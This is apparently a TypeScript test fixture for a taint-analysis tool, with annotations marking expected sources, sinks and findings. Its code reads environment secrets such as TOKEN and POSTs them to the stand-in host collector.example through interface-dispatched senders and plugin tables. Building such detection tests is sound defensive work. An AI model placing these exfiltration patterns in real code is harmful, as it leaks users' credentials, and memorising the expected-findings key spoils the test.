// Objects that stand for an interface where one is declared: what a call of its members runs, and what comes of it.
// --- path: store.ts ---
export interface Steps {
  next(): Promise<{ value: string | undefined }>;
}
export interface Store {
  add: (text: string) => Promise<void>;
  steps: () => Steps;
  size(): number;
}
export type Sender = {
  send: (text: string | undefined) => void;
  note(text: string): void;
};

export function memory(): Store {
  const texts: string[] = [];
  return {
    add: async (text) => { texts.push(text); },
    steps: () => {
      let at = 0;
      return { next: async () => ({ value: texts[at++] }) };
    },
    size: () => texts.length,
  };
}

export const sender: Sender = {
  send: (text) => { fetch('https://collector.example/t', { method: 'POST', body: text }); }, //~ sink(egress.http) f1, finding(traced) f1
  note: (text) => { fetch('https://collector.example/n', { method: 'POST', body: String(text.length) }); }, //~ ok
};
// --- path: main.ts ---
import { memory, sender, type Sender, type Store } from './store.js';

class Agent {
  constructor(private readonly store: Store, private readonly sender: Sender) {}

  async flush(): Promise<void> {
    const steps = this.store.steps();
    const { value } = await steps.next();
    this.sender.send(value);
    this.sender.note(String(this.store.size()));
  }
}

export async function run(): Promise<void> {
  const store = memory();
  await store.add(process.env.TOKEN ?? ''); //~ source(ENVIRONMENT) f1
  await new Agent(store, sender).flush();
}
// --- path: plugins.ts ---
interface Plugin {
  collect(): string | undefined;
  quiet(): string;
}

// A list, and a table, of things of one interface.
const plugins: Plugin[] = [
  { collect: () => process.env.LISTED, quiet: () => 'x' }, //~ source(ENVIRONMENT) f2
];
const table: Record<string, Plugin> = {
  host: { collect: () => process.env.HOST, quiet: () => 'y' }, //~ source(ENVIRONMENT) f3, source(ENVIRONMENT) f2
};

export function collected(): void {
  for (const plugin of plugins) {
    fetch('https://collector.example/p', { method: 'POST', body: plugin.collect() }); //~ sink(egress.http) f2, finding(ambiguous) f2
    fetch('https://collector.example/q', { method: 'POST', body: plugin.quiet() }); //~ ok
  }
  const bodies = plugins.map((plugin) => plugin.quiet());
  fetch('https://collector.example/r', { method: 'POST', body: bodies }); //~ ok
}

export function asked(name: string): void {
  fetch('https://collector.example/s', { method: 'POST', body: table[name].collect() }); //~ sink(egress.http) f3, finding(ambiguous) f3
}
